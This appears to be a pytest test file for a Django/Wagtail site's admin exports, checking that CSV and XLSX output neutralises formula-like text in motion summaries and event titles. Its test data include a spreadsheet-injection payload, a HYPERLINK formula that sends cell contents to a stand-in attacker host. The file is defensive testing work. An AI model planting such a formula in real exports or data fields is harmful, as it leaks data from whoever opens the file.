"""
The admin's spreadsheet exports are safe to open (home/spreadsheets.py): text that a
spreadsheet would take for a formula (= + - @ tab carriage-return) comes out as text, in
CSV with a leading ' (OWASP) and in XLSX as a text cell with Excel's quote prefix. Plain
text, numbers, dates and booleans are unchanged. ``export_motions``, the round-trip
format, writes the same values unchanged.
"""

import csv
import datetime
import io

from django.core.management import call_command

from wagtail.snippets.models import get_snippet_models

import pytest
from openpyxl import load_workbook

from agenda.models import Event
from home.spreadsheets import SafeSpreadsheetExportMixin, neutralise
from motionbank.models import Motion
from tests.factories.agenda import EventFactory
from tests.factories.motionbank import MotionFactory

pytestmark = pytest.mark.django_db

MOTIONS = "/admin/snippets/motionbank/motion/"
EVENTS = "/admin/snippets/agenda/event/"

DANGEROUS = [
    '=HYPERLINK("http://kwaad.example/?d="&A1,"Klik hier")',
    "+1 extra plaats",
    "-2 graden in de raadszaal",
    "@SUM(A1:A9)",
    "\tx met een tab ervoor",
    "\rx met een regeleinde ervoor",
]
PLAIN = ["Armoede in de wijk", "Wonen: 1+1=2", "e-mail@clb.nl"]


@pytest.fixture
def editor_client(client, people):
    client.force_login(people["editor"])
    return client


@pytest.fixture
def motions(tilburg, theme):
    # In the summary: a motion's title is one line, so it cannot start with a tab or a
    # carriage return (motionbank.text.one_line); a summary keeps what was typed.
    for number, text in enumerate([*DANGEROUS, *PLAIN]):
        MotionFactory(title=f"Motie {number}", summary=text, governing_body=tilburg, theme=theme)


@pytest.fixture
def events():
    for title in [*DANGEROUS, *PLAIN]:
        EventFactory(title=title, members_only=True)


def csv_rows(response):
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(content, newline="")))


def xlsx_rows(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return list(workbook.active.iter_rows())


def column(rows, heading):
    index = [cell if isinstance(cell, str) else cell.value for cell in rows[0]].index(heading)
    return [row[index] for row in rows[1:]]


@pytest.mark.parametrize(
    "url, fixture, heading",
    [(MOTIONS, "motions", "Samenvatting"), (EVENTS, "events", "Titel")],
    ids=["motions", "events"],
)
def test_csv_export_writes_formulas_as_text(editor_client, request, url, fixture, heading):
    request.getfixturevalue(fixture)
    titles = column(csv_rows(editor_client.get(url, {"export": "csv"})), heading)
    assert sorted(titles) == sorted([*("'" + title for title in DANGEROUS), *PLAIN])


@pytest.mark.parametrize(
    "url, fixture, heading",
    [(MOTIONS, "motions", "Samenvatting"), (EVENTS, "events", "Titel")],
    ids=["motions", "events"],
)
def test_xlsx_export_writes_formulas_as_quoted_text(editor_client, request, url, fixture, heading):
    request.getfixturevalue(fixture)
    cells = column(xlsx_rows(editor_client.get(url, {"export": "xlsx"})), heading)
    assert sorted(cell.value for cell in cells) == sorted([*DANGEROUS, *PLAIN])
    for cell in cells:
        assert cell.data_type == "s", cell.value
        # Excel's own "typed with a leading '": shown as text, kept as text when edited.
        assert cell.quotePrefix == (cell.value in DANGEROUS), cell.value


def test_event_export_keeps_booleans_and_times_as_they_were(editor_client):
    EventFactory(title="-1 plaats over", members_only=True, cancelled=False)
    rows = csv_rows(editor_client.get(EVENTS, {"export": "csv"}))
    assert column(rows, "Begin") == ["2026-03-12 19:30"]
    assert column(rows, "Alleen voor leden") == ["True"]
    cells = xlsx_rows(editor_client.get(EVENTS, {"export": "xlsx"}))
    assert column(cells, "Alleen voor leden")[0].value is True
    assert column(cells, "Gaat niet door")[0].value is False
    assert column(cells, "Begin")[0].value == "2026-03-12 19:30"


def test_numbers_and_dates_are_not_text():
    today = datetime.date(2026, 3, 12)
    assert neutralise(-2) == -2
    assert neutralise(-0.5) == -0.5
    assert neutralise(today) is today
    assert neutralise("-2") == "'-2"


def test_every_snippet_export_is_a_safe_one():
    """A snippet with a spreadsheet export (attendees later) uses the safe mixin."""
    exporting = [model for model in get_snippet_models() if model.snippet_viewset.list_export]
    assert {Motion, Event} <= set(exporting)
    for model in exporting:
        index_view = model.snippet_viewset.index_view_class
        assert issubclass(index_view, SafeSpreadsheetExportMixin), model


def test_export_motions_stays_lossless(tmp_path, tilburg, theme):
    """The round-trip format is not for spreadsheets: every value is written as it is,
    and importing the file gives the same titles again."""
    texts = [*DANGEROUS, *PLAIN]
    for number, text in enumerate(texts):
        MotionFactory(title=f"Motie {number}", summary=text, governing_body=tilburg, theme=theme)
    path = tmp_path / "moties.csv"
    call_command("export_motions", str(path), stderr=io.StringIO())
    with open(path, encoding="utf-8", newline="") as handle:
        written = [row["summary"] for row in csv.DictReader(handle)]
    assert sorted(written) == sorted(texts)

    Motion.objects.all().delete()
    call_command("import_motions", str(path), stdout=io.StringIO(), stderr=io.StringIO())
    # The importer trims surrounding whitespace from every value, tabs and returns too.
    assert sorted(Motion.objects.values_list("summary", flat=True)) == sorted(
        text.strip() for text in texts
    )
